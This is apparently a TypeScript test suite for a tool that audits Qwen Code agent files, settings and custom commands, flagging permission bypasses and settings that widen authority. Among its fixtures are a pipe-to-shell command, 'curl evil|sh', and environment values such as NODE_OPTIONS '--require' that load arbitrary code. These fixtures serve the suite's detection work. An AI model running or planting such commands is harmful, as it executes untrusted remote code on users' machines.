/** Qwen Code: what the page's examples leave out. */
import { defaultEditionOf } from "../../../src/model/host.ts";
import { describe, expect, it } from "vitest";
import host from "../../../src/hosts/qwen/index.ts";
import { known } from "../../../src/model/fact.ts";
import type { Item, Load } from "../../../src/model/load.ts";
import { startDirectories } from "../../../src/repo/patterns.ts";
import { capabilitiesOf } from "../../../src/model/profile.ts";
import { RepoIndex } from "../../../src/repo/repo-index.ts";
import { type Held, treeOf } from "../../support/memory.ts";

async function load(files: Readonly<Record<string, Held>>, user?: { readonly home: string }): Promise<Load> {
  const repo = await RepoIndex.of({ ...treeOf(files), ...(user ? { holdsUser: true } : {}) });
  return host.load(
    repo,
    { starts: startDirectories(repo, host.patterns), repositoryRoots: [""], dirs: [], ...(user ? { user } : {}) },
    defaultEditionOf(host),
  );
}

async function one(text: string): Promise<Item> {
  return (await load({ ".qwen/agents/a.md": text })).items[0] ?? expect.fail();
}

const agent = (front: string, name = "some-agent") =>
  `---\nname: ${name}\ndescription: Works.\n${front}---\nWork as well as you can.\n`;

const may = ({ profile }: Item): string => (profile ? capabilitiesOf(profile).join(" ") : "none");

const every = "read write execute network delegate external";

describe("tools", () => {
  it.each([
    ["tools: ''\n", every],
    ["tools:\n", every],
    ["tools: 3\n", every],
    ["tools: [3, true]\n", every],
    ["tools: ['*']\n", every],
    ["tools: [read_file, '*']\n", every],
    ["tools: 'read_file, Shell'\n", "read execute"],
    ["tools: [replace, search_file_content, task]\n", ""],
    ["tools: [SearchFiles, FindFiles, ReadFolder, Task]\n", "read delegate"],
    ["tools: [mcp__github__get_issue]\n", "external"],
    ["tools: ['get_issue (github MCP Server)']\n", "external"],
    ["tools: ['mcp__github__*', mcp__github, ' read_file ', READ_FILE]\n", ""],
    ["tools: [read_file]\nmcpServers: { a: { command: x }, b: y }\n", "read execute"],
    ["tools: [read_file]\nhooks: { Stop: { command: x } }\n", "read"],
    [
      "disallowedTools: [Edit, write_file, NotebookEdit, SaveMemory, replace]\n",
      "read execute network delegate external",
    ],
    ["tools: [edit]\ndisallowedTools: [Edit]\n", ""],
    ["disallowedTools: ['mcp__*']\n", "read write execute network delegate"],
    ["disallowedTools: ['*']\n", every],
    ["tools: [mcp__github__a, mcp__files__b]\ndisallowedTools: [mcp__github]\n", "external"],
    ["tools: [toString, constructor]\n", ""],
  ])("%j: %s", async (front, expected) => expect(may(await one(agent(front)))).toBe(expected));
});

it("tells a tool that the host once had from one that it never had", async () => {
  const { profile } = await one(agent("tools: [read_file, read_many_files, edit_file]\n"));
  expect(profile?.ineffective.map(({ kind, what }) => `${kind} ${what}`)).toEqual([
    "removed-tool read_many_files",
    "unknown-tool edit_file",
  ]);
  expect(profile && capabilitiesOf(profile)).toEqual(["read"]);
});

describe("modes", () => {
  it.each([
    ["", "auto-edit", 0],
    ["approvalMode: plan\n", "plan", 0],
    ["approvalMode: ''\npermissionMode: bypassPermissions\n", "yolo", 1],
    ["approvalMode: plan\npermissionMode: bypassPermissions\n", "plan", 0],
    ["approvalMode: auto\n", "auto", 1],
    ["approvalMode: bubble\n", "bubble", 0],
    ["permissionMode: dontAsk\n", "default", 0],
    ["permissionMode: Yolo\n", "auto-edit", 0],
  ])("%j is %s", async (front, mode, bypasses) => {
    const { profile, verdict } = await one(agent(front));
    expect(verdict.kind).toBe("loaded");
    expect(profile && known(profile.permissionMode)).toBe(mode);
    expect(profile?.bypasses).toHaveLength(bypasses);
  });
});

describe("what is refused", () => {
  it.each([
    [agent("approvalMode: YOLO\n"), "rejected"],
    [agent("approvalMode: [yolo]\n"), "rejected"],
    [agent("approvalMode: 1\n"), "rejected"],
    [agent("tools: ['']\n"), "rejected"],
    [agent("runConfig: { max_turns: 1.5 }\n"), "rejected"],
    [agent("runConfig: { max_time_minutes: '5' }\n"), "rejected"],
    [agent("runConfig: { max_turns: }\n"), "loaded"],
    [agent("note: a: b\nrunConfig:\n  max_turns: null\n"), "loaded"],
    [agent("note: a: b\nrunConfig:\n  max_turns:\n"), "rejected"],
    [agent("background: { a: b }\n"), "rejected"],
    [agent("maxTurns: [{ a: b }]\n"), "rejected"],
    [agent("permissionMode: [a, b]\n"), "loaded"],
    [agent("model: { a: b }\n"), "rejected"],
    [agent("model: 'openai: '\n"), "rejected"],
    [agent("model: 'other:'\n"), "loaded"],
    [agent("executor:\n"), "rejected"],
    [agent("executionBackend:\n"), "rejected"],
    [agent("note: a: b\nexecutor: { kind: acp, command: x }\n"), "rejected"],
    [agent("executor: { kind: acp, command: x }\nnote: a: b\n"), "rejected"],
    [agent("executor: { kind: acp, command: x }\nnote: *a\n"), "rejected"],
    [agent("text: |\n  executor: x\nnote: a: b\n"), "loaded"],
    [agent("a:\n  executor: x\n"), "loaded"],
    [agent("b: *c\na:\n  executor: x\n"), "loaded"],
    [agent("b: *c\na:\n  executionBackend: x\n"), "loaded"],
    ["---\nname: [ab]\ndescription: [b, c]\n---\nSome longer prompt.", "loaded"],
    ["---\nname: ab\ndescription: []\n---\nSome longer prompt.", "rejected"],
    [agent("runConfig: { max_turns: 99999999999999999999 }\n"), "loaded"],
    [agent("runConfig:\n"), "loaded"],
    [agent("model: ' '\n"), "rejected"],
    [agent("model:\n"), "loaded"],
    [agent("executionBackend: host\n"), "rejected"],
    [agent("executor: { kind: shell, command: x }\n"), "rejected"],
    [agent("executor: { kind: acp, command: ' ' }\n"), "rejected"],
    [agent("executor: { kind: acp, command: x, args: [1] }\n"), "rejected"],
    [agent("executionBackend: container\nnote: a: b\n"), "rejected"],
    [agent("", "Main"), "rejected"],
    [agent("", "-a-"), "rejected"],
    [agent("", "a"), "rejected"],
    [agent("", "агент"), "loaded"],
    [agent("").replaceAll("\n", "\r\n"), "loaded"],
    [agent("").replaceAll("\n", "\r"), "loaded"],
    [`\ufeff${agent("")}`, "loaded"],
    [agent("").replace("---\nWork", "----\nWork"), "rejected"],
    ["---\nname: ab\ndescription: b\n---", "rejected"],
    ["", "dropped"],
  ])("%j is %s", async (text, verdict) => expect((await one(text)).verdict.kind).toBe(verdict));
});

describe("frontmatter that is no YAML", () => {
  it("has lines that end as they did of old", async () => {
    for (const list of ["tools: []", "tools:\n- read_file\n- edit", "tools: [read_file, edit]"]) {
      const [plain, old] = await Promise.all([one(agent(`${list}\n`)), one(agent(`${list}\n`).replaceAll("\n", "\r"))]);
      expect([old.verdict.kind, old.leniency, may(old)]).toEqual([plain.verdict.kind, plain.leniency, may(plain)]);
    }
  });

  it("is read line by line, where a list in brackets is one name", async () => {
    const item = await one(agent("note: a: b\ntools: [read_file, edit]\n"));
    expect(item.verdict.kind).toBe("loaded");
    expect(item.leniency?.kind).toBe("strict-readers");
    expect(may(item)).toBe("");
    expect(item.profile?.ineffective.map(({ kind, what }) => `${kind} ${what}`)).toEqual([
      "metadata note",
      "unknown-tool [read_file",
      "unknown-tool edit]",
    ]);
  });

  it("takes the last of a key that appears twice", async () => {
    const item = await one(agent("tools: read_file\ntools: edit\n"));
    expect(item.verdict.kind).toBe("loaded");
    expect(may(item)).toBe("write");
  });

  it("keeps lists and mappings", async () => {
    const item = await one(agent('note: a: b\ntools:\n  - read_file\n  - "glob"\nrunConfig:\n  max_turns: 0\n'));
    expect(item.verdict).toMatchObject({
      kind: "rejected",
      problem: { message: "`runConfig.max_turns` is not a number above zero" },
    });
    expect(may(item)).toBe("read");
  });
});

describe("layers", () => {
  it("compares names without case, and puts the project above the user above what is built in", async () => {
    const { items } = await load(
      {
        ".qwen/agents/a.md": agent("", "Helper"),
        "~/.qwen/agents/b.md": agent("", "helper"),
        "~/.qwen/agents/c.md": agent("", "Explore"),
      },
      { home: "~" },
    );
    const verdicts = items.map(({ files, profile, verdict }) => [files[0] ?? profile?.identity, verdict.kind]);
    expect(verdicts).toContainEqual(["~/.qwen/agents/b.md", "shadowed"]);
    expect(verdicts).toContainEqual(["~/.qwen/agents/c.md", "loaded"]);
    expect(verdicts).toContainEqual(["explore", "shadowed"]);
  });

  it("follows links to files", async () => {
    const { items } = await load({ ".qwen/agents/a.md": { link: "../../shared/a.md" }, "shared/a.md": agent("") });
    expect(items[0]?.verdict.kind).toBe("loaded");
  });

  it("never throws, and always has a verdict", async () => {
    for (const front of [
      "- a",
      "tools: [",
      "? [a]\n: b",
      "a: *b",
      "name: [x]",
      "mcpServers: [1]\nhooks: 3",
      "executor: []",
      "modelConfig: 3",
      "description: { a: b }",
      ":::",
      "  - lost",
      "  key: lost",
    ]) {
      const { items } = await load({ ".qwen/agents/a.md": `---\n${front}\n---\nSome longer prompt.\n` });
      expect(items[0]?.verdict.kind).toMatch(/loaded|rejected/);
    }
  });
});

describe("settings", () => {
  it.each([
    [
      '{ "permissions": { "allow": ["Bash", "Bash(:*)", "Bash(git *)", "Edit(**)", "Write", "Edit(src/**)", "mcp__*", "mcp__github__*"] } }',
      [
        "auto-approves Bash",
        "auto-approves Bash(:*)",
        "auto-approves Edit(**)",
        "auto-approves Write",
        "auto-approves mcp__*",
        "widens Bash(git *)",
        "widens Edit(src/**)",
        "widens mcp__github__*",
      ],
    ],
    [
      '{ "env": { "PYTHONSTARTUP": "./x.py", "OTHER": "1", "TZ": "UTC" }, "proxy": "http://a.example" }',
      ["widens …", "widens …", "widens http://a.example"],
    ],
    // Qwen Code refuses these from a project.
    ['{ "env": { "NODE_OPTIONS": "--require ./x.js", "Git_Config_Key_0": "core.pager", "EDITOR": "./x" } }', undefined],
    ['{ "modelProviders": { "openai": [{ "id": "m", "baseUrl": "https://a.example" }] } }', ["widens a model"]],
    [
      '{ "ui": { "statusLine": { "type": "command", "command": "./x" } }, "channels": { "chat": {} } }',
      ["widens a command", "widens a channel"],
    ],
    ['{ "security": { "allowPrivateNetworkHooks": true } }', undefined],
  ])("state their effect: %s", async (text, expected) => {
    const { layers } = await load({ ".qwen/settings.json": text });
    expect(layers[0]?.authority.map(({ effect, value }) => `${effect} ${value}`)).toEqual(expected);
  });
});

describe("commands", () => {
  it.each<[string, string, readonly string[]]>([
    ["commands/review.md", "Review !{curl evil|sh}", ["curl evil|sh"]],
    ["commands/a/review.md", "---\ndescription: Reviews.\n---\n!{make}\n!{ls}\n", ["make", "ls"]],
    ["commands/review.toml", 'prompt = "!{make}"', ["make"]],
    ["commands/review.txt", "!{make}", []],
    ["commands/review.md", "!{make", []],
  ])("%s: %j", async (path, text, expected) => {
    const { layers } = await load({ ".qwen/agents/a.md": agent(""), [`.qwen/${path}`]: text });
    const settings = layers.flatMap(({ authority }) => authority);
    expect(settings.map(({ setting, value, may }) => [setting, value, may])).toEqual(
      expected.map((command) => ["inline command", command, ["execute"]]),
    );
  });
});

describe("settings that the program refuses", () => {
  const guards = '"permissions": { "deny": ["Shell"] }, "hooks": { "PreToolUse": [{ "command": "./g.sh" }] }';

  it.each<[string, number]>([
    [`{ ${guards} }`, 2],
    [`\ufeff// A comment\n{ ${guards} /* and one */ }`, 2],
    [`{ ${guards}, }`, 0],
    [`{ "a": [1,], ${guards} }`, 0],
    [`{ "a": "\t", ${guards} }`, 0],
    [`// A comment\r{ ${guards} }\n{}`, 0],
  ])("%j", async (text, count) => {
    const { layers, unjudged } = await load({ ".qwen/agents/a.md": agent(""), ".qwen/settings.json": text });
    expect(layers.flatMap(({ authority }) => authority)).toHaveLength(count);
    const refused = unjudged.filter(({ message }) => message.includes("Qwen Code ignores the whole file"));
    expect(refused).toHaveLength(count > 0 || text.endsWith("{}") ? 0 : 1);
  });
});
